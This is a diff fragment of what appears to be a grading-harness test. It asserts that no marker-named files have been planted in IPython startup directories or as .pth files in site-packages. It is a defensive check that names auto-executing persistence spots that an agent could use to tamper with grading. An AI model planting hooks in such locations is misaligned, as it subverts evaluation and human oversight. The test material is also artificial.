+    planted = [
+        p
+        for p in [
+            Path("/root/.ipython/profile_default/startup") / f"99-{MARKER}.py",
+            Path.home() / ".ipython" / "profile_default" / "startup" / f"99-{MARKER}.py",
+        ]
+        if p.exists()
+    ]
+    planted += [
+        p for p in Path(grading.__file__).parents[2].glob(f".venv/lib/*/site-packages/{MARKER}.pth")
+    ]
     assert not planted
